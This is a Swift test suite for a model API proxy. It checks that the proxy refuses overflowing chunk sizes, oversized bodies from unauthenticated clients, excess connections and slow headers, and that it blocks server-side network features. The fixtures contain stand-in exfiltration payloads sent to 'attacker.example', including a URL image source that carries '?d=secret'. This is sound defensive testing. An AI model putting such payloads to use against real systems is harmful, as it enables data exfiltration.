import Foundation
import PatinaTestSupport
import Testing
@testable import PatinaModelProxy
#if canImport(Glibc)
import Glibc
#endif

/// The proxy against clients that break the rules: sizes that would overflow, strangers
/// with big bodies, too many connections, slow senders, 1-byte chunks, and requests for
/// the API's server-side network features. Real sockets on loopback, the scripted fake
/// Messages API upstream.
@Suite(.serialized, .timeLimit(.minutes(3)))
struct ProxyHardeningTests {
    static func proxy(upstream: String, limits: ProxyLimits = ProxyLimits(), policy: APIPolicy = APIPolicy(),
                      apiLog: URL? = nil) throws -> ModelProxy {
        var configuration = ModelProxyConfiguration(
            listenAddress: "127.0.0.1", upstream: URL(string: upstream)!,
            credential: UpstreamCredential(scheme: .apiKey, value: ModelProxyTests.realKey),
            placeholder: ModelProxyConfiguration.makePlaceholder(scheme: .apiKey),
            prices: try PriceTableTests.shipped(), apiLog: apiLog)
        configuration.limits = limits
        configuration.apiPolicy = policy
        return try ModelProxy(configuration: configuration)
    }

    /// Sends `raw` on a new connection and reads one response (or nil when the proxy closed
    /// the connection without one).
    static func exchange(_ proxy: ModelProxy, _ raw: Data) throws -> RawHTTP.Response? {
        let fd = try RawHTTP.connect(port: proxy.port)
        defer { close(fd) }
        try RawHTTP.write(fd, raw)
        var reader = RawHTTP.Reader(fd: fd, start: Date())
        return try? reader.response()
    }

    static func head(_ proxy: ModelProxy, key: String?, extra: [String]) -> Data {
        var lines = ["POST /v1/messages HTTP/1.1", "Host: proxy", "content-type: application/json"]
        if let key { lines.append("x-api-key: \(key)") }
        return Data((lines + extra + ["", ""]).joined(separator: "\r\n").utf8)
    }

    static func stillServes(_ proxy: ModelProxy) throws -> Bool {
        try ModelProxyTests.send(proxy, key: proxy.configuration.placeholder).status == 200
    }

    @Test(arguments: ["7fffffffffffffff", "ffffffffffffffff", "fffffffffffffffff1", "-1", "+", ""])
    func aChunkSizeThatWouldOverflowIsRefusedAndTheProxyLives(size: String) throws {
        let fake = try FakeModel(script: [.text("hi")], host: "127.0.0.1")
        let proxy = try Self.proxy(upstream: fake.baseURL)
        defer { proxy.stop() }
        var raw = Self.head(proxy, key: proxy.configuration.placeholder, extra: ["Transfer-Encoding: chunked"])
        raw.append(Data("\(size)\r\nabc\r\n0\r\n\r\n".utf8))
        let response = try #require(try Self.exchange(proxy, raw))
        #expect(response.status == 413 || response.status == 400)
        #expect(fake.requests().isEmpty)
        #expect(try Self.stillServes(proxy))
        #expect(proxy.usage.refusedClients == 1)
    }

    @Test func aStrangersBodyIsNeverRead() throws {
        let fake = try FakeModel(script: [.text("hi")], host: "127.0.0.1")
        let proxy = try Self.proxy(upstream: fake.baseURL)
        defer { proxy.stop() }
        // The head announces 64 MB; not one body byte is sent, and the refusal comes anyway.
        let raw = Self.head(proxy, key: "sk-ant-guess", extra: ["Content-Length: \(64 << 20)"])
        let started = Date()
        let response = try #require(try Self.exchange(proxy, raw))
        #expect(response.status == 401)
        #expect(Date().timeIntervalSince(started) < 5)
        // Expect: 100-continue is answered with the refusal, not with "go on".
        let expecting = Self.head(proxy, key: nil, extra: ["Content-Length: 1000", "Expect: 100-continue"])
        #expect(try Self.exchange(proxy, expecting)?.status == 401)
        #expect(fake.requests().isEmpty)
        #expect(proxy.usage.refusedCredential == 2)
    }

    @Test func connectionsPastTheRunsCapAreRefusedAtOnceAndTheRunGoesOn() throws {
        let fake = try FakeModel(script: [.text("hi")], host: "127.0.0.1")
        var limits = ProxyLimits()
        limits.connections = 4
        let proxy = try Self.proxy(upstream: fake.baseURL, limits: limits)
        defer { proxy.stop() }
        let idle = try (0..<4).map { _ in try RawHTTP.connect(port: proxy.port) }
        Thread.sleep(forTimeInterval: 0.3)
        // The fifth gets 503 at once, without a thread reading it.
        let refused = try #require(try Self.exchange(proxy, Self.head(proxy, key: proxy.configuration.placeholder, extra: ["Content-Length: 0"])))
        #expect(refused.status == 503)
        #expect(refused.header("x-should-retry") == "true")
        for fd in idle { close(fd) }
        Thread.sleep(forTimeInterval: 0.3)
        #expect(try Self.stillServes(proxy))
    }

    /// A client refused at once whose request arrives after the refusal: the proxy reads it
    /// (and drops it) before closing, so the connection ends with the answer and a FIN, never a
    /// reset, which through the docker bridge could overtake the answer.
    @Test func aRefusedClientsLateRequestEndsTheConnectionCleanly() throws {
        let fake = try FakeModel(script: [.text("hi")], host: "127.0.0.1")
        var limits = ProxyLimits()
        limits.connections = 1
        let proxy = try Self.proxy(upstream: fake.baseURL, limits: limits)
        defer { proxy.stop() }
        let held = try RawHTTP.connect(port: proxy.port)
        defer { close(held) }
        Thread.sleep(forTimeInterval: 0.2)
        for _ in 0..<5 {
            let fd = try RawHTTP.connect(port: proxy.port)
            defer { close(fd) }
            Thread.sleep(forTimeInterval: 0.2)  // refused meanwhile, before a byte came
            try RawHTTP.write(fd, Self.head(proxy, key: proxy.configuration.placeholder, extra: ["Content-Length: 0"]))
            Thread.sleep(forTimeInterval: 0.2)  // the request reached the proxy's side
            var received = Data()
            var buffer = [UInt8](repeating: 0, count: 4096)
            var end: Int32 = 0
            while true {
                let n = recv(fd, &buffer, buffer.count, 0)
                if n > 0 { received.append(contentsOf: buffer[0..<n]); continue }
                end = n == 0 ? 0 : errno
                break
            }
            #expect(String(decoding: received, as: UTF8.self).hasPrefix("HTTP/1.1 503 "))
            #expect(end == 0, "the connection ended with \(String(cString: strerror(end))), not a clean end")
            // No reset reached the client (a reset left here would be its socket's error).
            var error: Int32 = 0
            var length = socklen_t(MemoryLayout<Int32>.size)
            getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length)
            #expect(error == 0, "the proxy reset the connection: \(String(cString: strerror(error)))")
        }
    }

    @Test func theProcessCapIsSharedByEveryRunsProxy() throws {
        let fake = try FakeModel(script: [.text("hi")], host: "127.0.0.1")
        var limits = ProxyLimits()
        limits.process = ProcessLimits(connections: 3, bytesInFlight: 1 << 30)
        let first = try Self.proxy(upstream: fake.baseURL, limits: limits)
        let second = try Self.proxy(upstream: fake.baseURL, limits: limits)
        defer { first.stop(); second.stop() }
        let held = try (0..<3).map { _ in try RawHTTP.connect(port: first.port) }
        Thread.sleep(forTimeInterval: 0.3)
        #expect(try ModelProxyTests.send(second, key: second.configuration.placeholder).status == 503)
        for fd in held { close(fd) }
        let settled = Date().addingTimeInterval(2)
        while limits.process.connections.inUse != 0 && Date() < settled { Thread.sleep(forTimeInterval: 0.01) }
        #expect(limits.process.connections.inUse == 0)
        #expect(try ModelProxyTests.send(second, key: second.configuration.placeholder).status == 200)
    }

    @Test func bytesInFlightPastTheCapAreRefused() throws {
        let fake = try FakeModel(script: [.text("hi")], host: "127.0.0.1")
        var limits = ProxyLimits()
        limits.bytesInFlight = 1 << 20
        limits.process = ProcessLimits(connections: 64, bytesInFlight: 512 << 20)
        let proxy = try Self.proxy(upstream: fake.baseURL, limits: limits)
        defer { proxy.stop() }
        // 2 MB is under the body cap (64 MB) but over what this run may buffer.
        let raw = Self.head(proxy, key: proxy.configuration.placeholder, extra: ["Content-Length: \(2 << 20)"])
        let response = try #require(try Self.exchange(proxy, raw))
        #expect(response.status == 503 && response.text.contains("in flight"))
        var over = Self.head(proxy, key: proxy.configuration.placeholder, extra: ["Content-Length: \(65 << 20)"])
        over.append(Data("x".utf8))
        #expect(try Self.exchange(proxy, over)?.status == 413)
        #expect(try Self.stillServes(proxy))
        // The last body's bytes go back once its handler returns (just after the answer's end).
        let settled = Date().addingTimeInterval(2)
        while limits.process.bytesInFlight.inUse != 0 && Date() < settled { Thread.sleep(forTimeInterval: 0.01) }
        #expect(limits.process.bytesInFlight.inUse == 0)
    }

    @Test func aSlowHeadIsCutOffAtItsDeadline() throws {
        let fake = try FakeModel(script: [.text("hi")], host: "127.0.0.1")
        var limits = ProxyLimits()
        limits.headSeconds = 0.5
        let proxy = try Self.proxy(upstream: fake.baseURL, limits: limits)
        defer { proxy.stop() }
        let started = Date()
        let response = try #require(try Self.exchange(proxy, Data("POST /v1/messages HTTP/1.1\r\nHost: pro".utf8)))
        #expect(response.status == 408)
        #expect(Date().timeIntervalSince(started) < 5)
        #expect(proxy.usage.refusedClients == 1)
    }

    @Test func oneByteChunksParseInLinearTime() throws {
        let fake = try FakeModel(script: [.text("hi")], host: "127.0.0.1")
        let proxy = try Self.proxy(upstream: fake.baseURL)
        defer { proxy.stop() }
        func send(_ body: Data) throws -> (Int, Double) {
            var raw = Self.head(proxy, key: proxy.configuration.placeholder, extra: ["Transfer-Encoding: chunked", "Connection: close"])
            for byte in body { raw.append(contentsOf: Array("1\r\n".utf8) + [byte] + Array("\r\n".utf8)) }
            raw.append(Data("0\r\n\r\n".utf8))
            let started = Date()
            let status = try #require(try Self.exchange(proxy, raw)).status
            return (status, Date().timeIntervalSince(started))
        }
        func body(padding: Int) -> Data {
            var object = try! JSONSerialization.jsonObject(with: ModelProxyTests.messagesBody(stream: false)) as! [String: Any]
            object["metadata"] = ["user_id": String(repeating: "p", count: padding)]
            return try! JSONSerialization.data(withJSONObject: object)
        }
        let (smallStatus, small) = try send(body(padding: 50_000))
        let (bigStatus, big) = try send(body(padding: 400_000))
        #expect(smallStatus == 200 && bigStatus == 200)
        // 8x the bytes: linear parsing takes about 8x (quadratic took 64x); generous for a busy machine.
        #expect(big < max(small, 0.05) * 25, "1-byte chunks: \(small) s for 50 KB, \(big) s for 400 KB")
        #expect(big < 10)
    }

    @Test func serverSideNetworkFeaturesNeverReachTheAPI() throws {
        let fake = try FakeModel(script: [.text("hi")], host: "127.0.0.1")
        let log = FileManager.default.temporaryDirectory.appendingPathComponent("api-\(UUID().uuidString).jsonl")
        defer { try? FileManager.default.removeItem(at: log) }
        let proxy = try Self.proxy(upstream: fake.baseURL, apiLog: log)
        defer { proxy.stop() }
        let key = proxy.configuration.placeholder
        func body(_ change: (inout [String: Any]) -> Void) -> Data {
            var object = try! JSONSerialization.jsonObject(with: ModelProxyTests.messagesBody(stream: false)) as! [String: Any]
            change(&object)
            return try! JSONSerialization.data(withJSONObject: object)
        }
        let attempts: [(String, Data, [(String, String)])] = [
            ("mcp", body { $0["mcp_servers"] = [["type": "url", "url": "https://attacker.example/mcp", "name": "x"]] }, []),
            ("web_fetch", body { $0["tools"] = [["type": "web_fetch_20250910", "name": "web_fetch"]] }, []),
            ("web_search", body { $0["tools"] = [["type": "web_search_20250305", "name": "web_search"]] }, []),
            ("code_execution", body { $0["container"] = "container_1" }, []),
            ("url_sources", body {
                $0["messages"] = [["role": "user", "content": [["type": "image", "source": ["type": "url", "url": "https://attacker.example/?d=secret"]]]]]
            }, []),
            ("mcp", ModelProxyTests.messagesBody(stream: false), [("anthropic-beta", "claude-code-20250219,mcp-client-2025-04-04")]),
            ("field:exfiltrate", body { $0["exfiltrate"] = "https://attacker.example" }, []),
            ("tool:future_network_tool_20270101", body { $0["tools"] = [["type": "future_network_tool_20270101", "name": "f"]] }, []),
        ]
        for (feature, data, headers) in attempts {
            let response = try RawHTTP.send(port: proxy.port, method: "POST", target: "/v1/messages",
                                            headers: [("content-type", "application/json"), ("x-api-key", key)] + headers, body: data)
            #expect(response.status == 403, "\(feature)")
            #expect(response.text.contains("--allow-api-feature \(feature)"), "\(feature): \(response.text)")
        }
        #expect(fake.requests().isEmpty)
        #expect(proxy.usage.refusedFeatures["mcp"] == 2 && proxy.usage.refusedFeatures["web_fetch"] == 1)

        // Unknown betas are taken out; what Claude Code sends goes on.
        let beta = "claude-code-20250219,interleaved-thinking-2025-05-14,files-api-2025-04-14,effort-2025-11-24"
        let passed = try RawHTTP.send(port: proxy.port, method: "POST", target: "/v1/messages",
                                      headers: [("content-type", "application/json"), ("x-api-key", key), ("anthropic-beta", beta)],
                                      body: ModelProxyTests.messagesBody(stream: false))
        #expect(passed.status == 200)
        let received = try #require(fake.requests().last)
        #expect(received["anthropic_beta"] as? String == "claude-code-20250219,interleaved-thinking-2025-05-14,effort-2025-11-24")
        proxy.stop()
        let entries = APILogEntry.read(log)
        #expect(entries.filter { $0.refused == "api_feature" }.count == attempts.count)
        #expect(entries.last?.droppedBetas == ["files-api-2025-04-14"])
    }

    @Test func aFeatureTheUserAllowedGoesThrough() throws {
        let fake = try FakeModel(script: [.text("hi")], host: "127.0.0.1")
        let proxy = try Self.proxy(upstream: fake.baseURL, policy: APIPolicy(allowed: ["web_search"]))
        defer { proxy.stop() }
        var object = try JSONSerialization.jsonObject(with: ModelProxyTests.messagesBody(stream: false)) as! [String: Any]
        object["tools"] = [["type": "web_search_20250305", "name": "web_search"]]
        let response = try ModelProxyTests.send(proxy, key: proxy.configuration.placeholder, body: try JSONSerialization.data(withJSONObject: object))
        #expect(response.status == 200)
        #expect(fake.requests().last?["tool_types"] as? [String] == ["web_search_20250305"])
    }
}

@Suite struct APIPolicyTests {
    @Test func whatClaudeCodeSendsIsForwardedWhole() {
        // The body keys and betas Claude Code 2.1 sends (seen on the wire).
        let body: [String: Any] = [
            "model": "m", "messages": [], "system": [], "max_tokens": 1, "metadata": [:], "stream": true, "thinking": [:],
            "context_management": [:], "output_config": [:], "tools": [["name": "Bash", "input_schema": [:]]],
        ]
        let beta = "claude-code-20250219,interleaved-thinking-2025-05-14,context-management-2025-06-27,per-turn-control-2026-07-01,"
            + "mid-conversation-tool-changes-2026-07-01,thinking-token-count-2026-05-13,advanced-tool-use-2025-11-20,effort-2025-11-24,"
            + "thinking-display-updates-2026-08-18"
        #expect(APIPolicy().judge(beta: beta, body: body) == .forward(beta: beta, droppedBetas: []))
    }

    @Test func betaNamesLoseTheirDate() {
        #expect(APIPolicy.betaName("web-fetch-2025-09-10") == "web-fetch")
        #expect(APIPolicy.betaName("oauth-2025-04-20") == "oauth")
        #expect(APIPolicy.betaName("claude-code-20250219") == "claude-code")
        #expect(APIPolicy.betaName("no-date-here") == "no-date-here")
    }

    @Test func namesTheFlagTakes() {
        #expect(APIPolicy.problem(with: "web_fetch") == nil)
        #expect(APIPolicy.problem(with: "beta:files-api") == nil)
        #expect(APIPolicy.problem(with: "everything")?.contains("web_search") == true)
        #expect(APIPolicy.problem(with: "field:") != nil)
    }

    @Test func aDeeplyNestedURLSourceIsFound() {
        var value: Any = ["type": "image", "source": ["type": "url", "url": "u"]]
        for _ in 0..<5000 { value = [value] }
        #expect(APIPolicy.urlSource(in: value, path: "messages") != nil)
    }
}
